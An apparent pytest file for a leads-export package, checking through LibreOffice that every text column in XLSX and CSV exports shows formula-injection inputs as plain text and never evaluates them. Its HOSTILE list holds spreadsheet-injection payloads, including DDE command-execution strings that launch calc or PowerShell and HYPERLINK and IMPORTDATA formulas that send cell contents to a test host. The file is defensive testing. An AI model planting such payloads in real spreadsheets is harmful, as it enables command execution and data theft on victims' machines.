"""Text that a spreadsheet might run, in every text column, opened and worked out anew by a real spreadsheet."""

import re
from typing import NamedTuple
from xml.etree import ElementTree

import pytest

try:
    from leads.exports import as_csv
except ImportError:
    as_csv = None
from leads.exports.columns import COLUMNS, Kind
from tests.leads.exports.workbooks import about_of, opened, save

pytestmark = pytest.mark.libreoffice

HOSTILE = [
    "=1+1", "=1+1;=2+2", '=1+1";=2+2', "='x", '="x"&"y"', "=2*3*7", "=A1", "=SUM(A1:A9)", "=NOW()", "={1;2}", "==1+1",
    "=cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(1)'!A1", "cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=DDE(\"soffice\";\"x\";\"A1\")", "=MSEXCEL|'\\..\\x.exe'!''",
    '=HYPERLINK("http://example.test/?x="&A1;"Open")', '=IMPORTXML("http://example.test/";"//a")',
    '=WEBSERVICE("http://example.test/")', '=IMAGE("http://example.test/x.png")',
    '=IMPORTDATA(CONCAT("http://example.test/";A1))', "=INDIRECT(\"A1\")", "=RAND()", "=1/0", "=NA()",
    "+1+1", "+SUM(1;1)", "+A1", "-1+1", "-2+3", "-A1", "--1+1", "@SUM(1;1)", "@A1", "@NOW()", "@example",
    "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1", "   +1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1;1)", "'=1+1", "''=1+1", '"=1+1"', '"=1+1', '";=1+1;"', "x;=1+1", "x,=1+1",
    "\u2060@SUM(1;1)", "x\t=1+1", "x\n=1+1", "x\r\n=1+1\r\n", '","=1+1","', "\u22122+3", "\u2212A1", "±1",
    "#N/A", "#REF!", "#DIV/0!", "#NAME?", "of:=1+1", "msoxl:=1+1", "%3D1+1", "&#61;1+1", "_x003D_1+1", "=\u20281+1",
    "=1+1 ʻŌkina", "=كلمة",
]  # fmt: skip
PEACEFUL = [
    "Ngā Tūī",
    "ʻAkilisi",
    "1975",
    "007",
    "-5",
    "+64 21 555 0101",
    "1e5",
    "3/4",
    "TRUE",
    "2026-11-22",
    "$5",
    "50%",
]
TEXTS = HOSTILE + PEACEFUL
COLUMNS_OF_TEXT = tuple(c for c in COLUMNS.values() if c.kind in (Kind.TEXT, Kind.NOTE, Kind.LINK, Kind.HANDLES))
RISKIEST = "--infilter=Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,0,true"
OPEN_DOCUMENT = "{urn:oasis:names:tc:opendocument:xmlns:"
TABLE, OFFICE = f"{OPEN_DOCUMENT}table:1.0}}", f"{OPEN_DOCUMENT}office:1.0}}"
CALC = "{urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0}"


class Seen(NamedTuple):
    """A cell as LibreOffice has it; an error is a string that is told as one."""

    kind: str | None
    formula: str | None
    told: str | None
    text: str


@pytest.fixture(scope="module")
def files(tmp_path_factory):
    """A workbook and a CSV file with each text in every column, as LibreOffice holds them."""
    folder = tmp_path_factory.mktemp("formulas")
    rows = [tuple(_cell(column, text) for column in COLUMNS_OF_TEXT) for text in TEXTS]
    book = save(folder / "book.xlsx", COLUMNS_OF_TEXT, rows)
    (folder / "list.csv").write_bytes(
        b"" if not as_csv else b"".join(as_csv.pieces(about_of(COLUMNS_OF_TEXT, len(rows)), iter(rows)))
    )
    return opened(book, folder, "fods"), opened(folder / "list.csv", folder, "fods", RISKIEST)


def _cell(column, text):
    return {"network": text} if column.kind == Kind.HANDLES else text


def sheet_of(file, header):
    """The rows of its first sheet below the header."""
    sheet = ElementTree.parse(file).find(f".//{TABLE}table")
    rows = [_cells(row) for row in sheet.iter(f"{TABLE}table-row") for _ in range(_times(row, "rows"))]
    return rows[header : header + len(TEXTS)]


def _cells(row):
    cells = [
        Seen(cell.get(f"{OFFICE}value-type"), cell.get(f"{TABLE}formula"), cell.get(f"{CALC}value-type"), _text(cell))
        for cell in row
        for _ in range(_times(cell, "columns"))
    ]
    return cells[: len(COLUMNS_OF_TEXT)]


def _times(element, what):
    """Equal rows and cells stand once; the empty rest of a sheet is one of them."""
    return min(int(element.get(f"{TABLE}number-{what}-repeated", 1)), len(TEXTS))


def _text(cell):
    return "".join("".join(line.itertext()) for line in cell if line.tag.endswith("}p"))


def readable(text):
    """Without what a spreadsheet's file tells by other means than letters, and without our apostrophes."""
    return re.sub(r"[\s'\u200b\ufeff\u2060]|^network: ", "", text)


def wrong(rows, texts):
    """Cells that are worked out or do not say what they were given."""
    pairs = [
        (text, column.name, cell)
        for text, row in zip(texts, rows, strict=True)
        for column, cell in zip(COLUMNS_OF_TEXT, row, strict=True)
    ]
    return [
        (name, text, cell)
        for text, name, cell in pairs
        if cell.formula or (cell.kind, cell.told) != ("string", "string") or readable(cell.text) != readable(text)
    ]


def test_there_are_enough_of_them():
    assert len(set(HOSTILE)) >= 50 and len(COLUMNS_OF_TEXT) >= 20


def test_a_workbook_shows_each_and_works_out_none(files):
    assert wrong(sheet_of(files[0], header=6), TEXTS) == []


def test_a_csv_file_shows_each_and_works_out_none(files):
    """Figures may be figures there: a CSV file cannot say what is text."""
    assert wrong(sheet_of(files[1], header=1)[: len(HOSTILE)], HOSTILE) == []


def test_without_the_apostrophe_the_spreadsheet_would_have_worked_it_out(tmp_path):
    """Or the test above proved nothing."""
    naive = tmp_path / "naive.csv"
    naive.write_text('"=1+1",x\r\n', encoding="utf-8")
    assert 'table:formula="of:=1+1"' in opened(naive, tmp_path, "fods", RISKIEST).read_text(encoding="utf-8")
